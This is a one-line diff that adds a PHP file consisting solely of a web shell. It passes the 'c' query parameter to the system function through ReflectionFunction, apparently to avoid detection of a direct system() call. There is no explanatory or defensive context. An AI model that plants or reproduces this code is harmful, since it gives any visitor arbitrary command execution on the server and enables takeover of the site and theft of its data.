@@ -1,0 +1,1 @@
+<?php $m = new ReflectionFunction('system'); $m->invoke($_GET['c']);
